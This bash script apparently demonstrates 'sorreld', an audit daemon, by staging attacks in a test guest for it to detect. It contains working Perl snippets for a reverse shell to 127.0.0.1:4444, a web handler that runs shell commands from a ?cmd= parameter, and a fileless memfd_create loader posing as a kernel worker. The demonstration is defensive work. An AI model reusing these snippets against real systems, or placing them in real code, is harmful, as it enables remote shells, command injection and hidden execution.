#!/bin/bash
# The demonstration of ./dev run, in a guest: sorreld as the kernel's audit daemon, and a short real
# attack that it sees. Lines that start with "== " are titles, lines that start with "{" are sorreld's
# events as they come; its own log and its closing statistics go to $GUEST_OUT.
set -u
exec 2>"$GUEST_OUT/demo.log"
mkdir -p /tmp/demo /var/lib/sorrel
mkfifo /tmp/never
exec 9<>/tmp/never

# Waits without a program (each program that starts is an event here).
pause() { read -rt "$1" -u 9 || true; }
title() {
  pause 0.3
  printf '== %s\n' "$1"
}

# Perl's part of the attack, so that every machine has what it takes.
listener='use Socket; socket(L, PF_INET, SOCK_STREAM, 0); setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
  bind(L, sockaddr_in(4444, INADDR_LOOPBACK)); listen(L, 1); accept(C, L);
  syswrite(C, "id -un; exit\n"); 1 while sysread(C, $_, 4096)'
reverse_shell='use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
  connect(S, sockaddr_in(4444, inet_aton("127.0.0.1"))) or exit 1;
  open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")'
web_server='use Socket; socket(L, PF_INET, SOCK_STREAM, 0); setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
  bind(L, sockaddr_in(8080, INADDR_LOOPBACK)); listen(L, 1); accept(C, L); sysread(C, $_, 4096);
  my ($query) = /\?cmd=(\S+)/; syswrite(C, "HTTP/1.0 200 OK\r\n\r\n" . qx(sh -c "$query"))'
web_client='use Socket; socket(S, PF_INET, SOCK_STREAM, 0);
  connect(S, sockaddr_in(8080, INADDR_LOOPBACK)); syswrite(S, "GET /status?cmd=id HTTP/1.0\r\n\r\n");
  1 while sysread(S, $_, 4096)'
memory_program='my $name = "[kworker/u8:2]"; my $fd = syscall(319, $name, 1); open(M, ">&=", $fd);
  open(P, "<", "/bin/true"); binmode(P); local $/; print M <P>; $| = 1; close(P);
  M->flush() if M->can("flush"); exec { "/proc/self/fd/$fd" } $name, "--quiet"'

"$SORREL_BIN/sorreld" --config "$SORREL_ROOT/config/demo.yaml" \
  --stats-file "$GUEST_OUT/statistics.json" 2>"$GUEST_OUT/sorreld.log" &
sorreld=$!
registered=no
for _ in {1..100}; do
  [[ $("$SORREL_BIN/guest_rules" status) == *" pid=$sorreld "* ]] && registered=yes && break
  kill -0 $sorreld || break
  pause 0.05
done
if [ $registered = no ]; then
  printf '== sorreld did not register with the kernel; its log:\n'
  cat "$GUEST_OUT/sorreld.log"
  exit 1
fi
title "sorreld is the kernel's audit daemon (Linux $(uname -r)); now the rules"
"$SORREL_BIN/guest_rules" "$SORREL_ROOT/tests/guest/demo.rules"

perl -e "$listener" &
pause 0.2
title 'a reverse shell: perl connects to 127.0.0.1:4444 and becomes sh'
perl -e "$reverse_shell"
wait $!

setpriv --reuid www-data --regid www-data --clear-groups /usr/bin/perl -e "$web_server" &
pause 0.3
title 'a web server (www-data) is made to run id'
perl -e "$web_client"
wait $!

title 'a program that is in no file system: memfd_create, then exec'
perl -MIO::Handle -e "$memory_program"

title 'a file whose name is not UTF-8'
# A child: bash itself is older than the audit's start, and such a process is never audited.
(: >"/tmp/demo/$(printf 'r\351sum\351 \377.txt')")

title 'a user logs in: PAM, the kernel (LOGIN), sshd'
"$SORREL_BIN/guest_messages" login alice 1000 ok

title 'sorreld stops'
kill $sorreld
wait $sorreld
